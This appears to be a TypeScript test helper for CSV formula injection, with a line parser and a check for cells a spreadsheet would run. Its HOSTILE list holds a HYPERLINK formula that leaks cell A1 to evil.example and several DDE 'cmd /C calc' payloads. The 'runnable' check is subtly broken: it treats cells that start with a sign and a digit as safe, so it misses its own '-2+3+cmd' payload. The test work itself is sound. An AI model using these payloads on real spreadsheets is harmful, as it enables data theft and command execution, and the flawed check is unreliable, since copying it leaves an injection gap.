// Test support for CSV formula injection: hostile cells, a small RFC 4180 line reader, and what a spreadsheet would run.
export const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
/** What a spreadsheet would run: a cell (after CSV unquoting) that starts with a formula character. */
export const runnable = (line: string): boolean => parseLine(line).some((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d/.test(c));

export function parseLine(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let q = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (q) {
      if (ch === '"' && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (ch === '"') q = false;
      else cur += ch;
    } else if (ch === '"') q = true;
    else if (ch === ',') {
      out.push(cur);
      cur = '';
    } else cur += ch;
  }
  out.push(cur);
  return out;
}

